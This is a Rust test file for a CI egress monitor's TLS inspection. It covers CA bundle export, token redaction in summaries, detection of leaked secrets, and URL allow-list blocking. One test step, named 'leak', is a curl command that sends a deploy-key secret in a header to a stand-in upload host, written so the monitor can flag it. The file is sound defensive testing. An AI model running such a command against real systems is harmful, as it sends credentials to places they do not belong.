//! The action with TLS inspection (issue #8 on top of #6 and #7): the CA bundles exported via
//! `$GITHUB_ENV`, URLs in the summary, a secret sent where it does not belong reported as an
//! anomaly (and `fail-on: anomaly`), and `allowed-urls` in block mode with the rule to add.
//!
//! Needs root (skips loudly otherwise), node and curl. Each test builds its own namespace,
//! origins and cgroup; the `cgroup` input always names the test's cgroup. The harness is
//! `tests::action`: node runs `action/main.js` and `post.js` as the runner would, and the
//! job's steps are children of a stand-in `Runner.Worker`.

use std::time::Duration;

use tests::action::{ActionJob, annotations, run_step, trust_origins_ca};
use tests::{Netns, Origins, TestCgroup, audit, skip_unless_root};

/// Deadline for the steps; passing ones take about a second.
const T: Duration = Duration::from_secs(60);

#[test]
fn tls_inspection_exports_the_bundles_and_the_summary_lists_urls() {
    if skip_unless_root("tls_inspection_exports_the_bundles_and_the_summary_lists_urls") {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    // The runner's roots trust the test origins (see trust_origins_ca).
    trust_origins_ca(&netns, &origins).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit")
        .input("tls-inspection", "true");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let env = job.github_env();
    for var in [
        "SSL_CERT_FILE=/run/warden/trust-",
        "CURL_CA_BUNDLE=/run/warden/trust-",
    ] {
        assert!(env.contains(var), "{var} not exported:\n{said}");
    }
    // curl with no CA option of its own: it trusts Warden's CA through $GITHUB_ENV.
    let steps = [run_step(
        "fetch",
        "curl -sS --fail --max-time 20 'https://tls.example/inspected?token=s3cr3t&x=1'\n".into(),
    )];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step fetch exit 0"), "{ran:?}\n{said}");
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert!(post.status.success(), "{said}");
    let records = job.audit_records().unwrap();
    let requests = audit::requests(&records);
    assert_eq!(requests.len(), 1, "{said}");
    assert!(
        requests[0]["process"]["step"]
            .as_str()
            .unwrap_or_default()
            .starts_with("fetch (run: curl"),
        "{said}"
    );
    let summary = job.summary();
    assert!(summary.contains("Inspected requests"), "{said}");
    assert!(
        summary.contains("GET https:\u{2060}//tls.example/inspected?token=REDACTED&amp;x=1 200"),
        "{said}"
    );
    assert!(!summary.contains("s3cr3t"), "{said}");
    assert_eq!(job.report().unwrap()["totals"]["requests"], 1, "{said}");
}

#[test]
fn a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly() {
    if skip_unless_root("a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly")
    {
        return;
    }
    const SECRET: &str = "s3cr3t-deploy-value-42";
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    trust_origins_ca(&netns, &origins).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "audit")
        .input("tls-inspection", "true")
        .input("fail-on", "anomaly")
        .input("secrets", &format!("{{\"DEPLOY_KEY\": \"{SECRET}\"}}"));
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let steps = [run_step(
        "leak",
        format!("curl -sS --max-time 20 -H 'X-Key: {SECRET}' https://tls.example/upload\n"),
    )];
    let ran = job.steps(&steps, T).unwrap();
    assert!(
        ran.stdout.contains("step leak exit 0"),
        "audit mode lets it through: {ran:?}"
    );
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(post.status.code(), Some(1), "fail-on: anomaly:\n{said}");
    assert_eq!(
        job.outputs().get("anomaly-count").map(String::as_str),
        Some("1"),
        "{said}"
    );
    assert_eq!(
        job.outputs().get("blocked-count").map(String::as_str),
        Some("0"),
        "{said}"
    );
    let warnings: Vec<(String, String)> = annotations(&post.stdout)
        .into_iter()
        .filter(|(c, m)| c == "warning" && m.starts_with("secret-exfiltration: "))
        .collect();
    assert_eq!(
        warnings.len(),
        1,
        "one warning for the anomaly (audit mode):\n{said}"
    );
    assert!(
        warnings[0].1.contains("DEPLOY_KEY") && warnings[0].1.contains("step leak (run: curl"),
        "{said}"
    );
    let summary = job.summary();
    let anomalies_at = summary
        .find("### Anomalies")
        .unwrap_or_else(|| panic!("{said}"));
    let dests_at = summary
        .find("### Destinations by step")
        .unwrap_or_else(|| panic!("{said}"));
    assert!(anomalies_at < dests_at, "anomalies first:\n{said}");
    // The value itself is nowhere a person or an upload step would see it.
    let log = std::fs::read_to_string(job.runner_temp().join("warden-audit.jsonl")).unwrap();
    let report = std::fs::read_to_string(job.runner_temp().join("warden-report.json")).unwrap();
    for (what, text) in [
        ("summary", &summary),
        ("log", &log),
        ("report", &report),
        ("post output", &post.stdout),
    ] {
        assert!(
            !text.contains(SECRET),
            "the secret is in the {what}:\n{said}"
        );
    }
}

#[test]
fn allowed_urls_in_block_mode_refuse_other_requests_and_the_report_says_which_rule() {
    if skip_unless_root(
        "allowed_urls_in_block_mode_refuse_other_requests_and_the_report_says_which_rule",
    ) {
        return;
    }
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let cgroup = TestCgroup::new().unwrap();
    trust_origins_ca(&netns, &origins).unwrap();
    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
    job.input("egress-policy", "block")
        .input("allowed-urls", "GET https://tls.example/ok/**");
    let main = job.main().unwrap();
    let said = format!("{main:?}\n{}", job.describe());
    assert!(main.status.success(), "{said}");
    let steps = [
        run_step(
            "get",
            "curl -sS --fail --max-time 20 https://tls.example/ok/a\n".into(),
        ),
        run_step(
            "push",
            "curl -sS --fail --max-time 20 -X POST https://tls.example/push\n".into(),
        ),
    ];
    let ran = job.steps(&steps, T).unwrap();
    assert!(ran.stdout.contains("step get exit 0"), "{ran:?}\n{said}");
    assert!(
        !ran.stdout.contains("step push exit 0"),
        "refused (403): {ran:?}\n{said}"
    );
    let post = job.post().unwrap();
    let said = format!("{post:?}\n{}", job.describe());
    assert_eq!(post.status.code(), Some(1), "{said}");
    let report = job.report().unwrap();
    let blocked = &report["blocked"];
    assert_eq!(blocked.as_array().map(Vec::len), Some(1), "{said}");
    assert_eq!(
        blocked[0]["destination"], "POST https://tls.example/push",
        "{said}"
    );
    assert_eq!(
        blocked[0]["allow_url"], "POST https://tls.example/push",
        "{said}"
    );
    assert_eq!(
        report["allowed_urls"],
        serde_json::json!([
            "GET https://tls.example/ok/**",
            "POST https://tls.example/push"
        ]),
        "{said}"
    );
    assert!(
        annotations(&post.stdout).iter().any(|(c, m)| c == "error"
            && m.starts_with("POST https://tls.example/push was blocked in push (run: curl")
            && m.ends_with("add to allowed-urls: POST https://tls.example/push")),
        "{said}"
    );
    assert!(
        job.summary()
            .contains("allowed-urls: |\n  GET https://tls.example/ok/**\n"),
        "{said}"
    );
}
